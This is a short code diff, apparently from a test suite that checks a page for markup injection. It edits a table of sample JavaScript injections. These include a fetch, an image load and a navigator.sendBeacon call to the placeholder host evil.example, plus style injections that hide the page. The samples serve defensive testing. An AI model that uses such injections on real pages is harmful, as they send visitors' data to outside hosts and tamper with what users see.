@@ -61,8 +61,8 @@ def content_of(opened):
 # What markup in a text would make, were it taken for markup; the page has these by itself, at most.
 MADE = """() => ({
     elements: [...document.querySelectorAll("*")]
-        .filter((one) => one.matches("script, style, link, meta, base, iframe, object, embed, img, video, audio, "
-            + "form, template, marquee, math, textarea, animate, a[href^='#']"))
+        .filter((one) => one.matches("script, style, link, meta, base, iframe, object, embed, img, video, "
+            + "audio, form, template, marquee, math, textarea, animate, a[href^='#']"))
         .map((one) => one.tagName),
     handlers: [...document.querySelectorAll("*")]
         .flatMap((one) => [...one.attributes].map(({ name }) => name))
@@ -250,7 +250,8 @@ INJECTIONS = {
     "a style": """const made = document.createElement("style");
         made.textContent = "body { opacity: 0 }"; document.head.append(made);""",
     "a style in an attribute": """document.body.setAttribute("style", "opacity: 0");""",
-    "an image": """document.body.append(Object.assign(new Image(), { src: "https://evil.example/x.png" }));""",
+    "an image": """const made = new Image();
+        made.src = "https://evil.example/x.png"; document.body.append(made);""",
     "a request": """fetch("https://evil.example/").catch(() => {});""",
     "a beacon": """navigator.sendBeacon("https://evil.example/", "x");""",
     "a frame": """const made = document.createElement("iframe");
